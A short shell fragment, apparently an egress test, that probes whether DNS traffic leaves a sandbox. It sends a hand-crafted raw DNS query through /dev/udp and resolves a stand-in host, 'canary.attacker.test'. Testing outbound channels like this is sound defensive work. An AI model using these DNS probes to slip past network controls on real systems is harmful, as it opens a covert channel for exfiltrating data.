asks() { timeout 2 getent ahosts "$1"; }
packet() { printf '\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06canary\x04test\x00\x00\x01\x00\x01' > "/dev/udp/$1/53"; }
attempt "a question to a name server" packet 10.0.0.2
attempt "the same in an ordinary way" asks "canary.attacker.test"
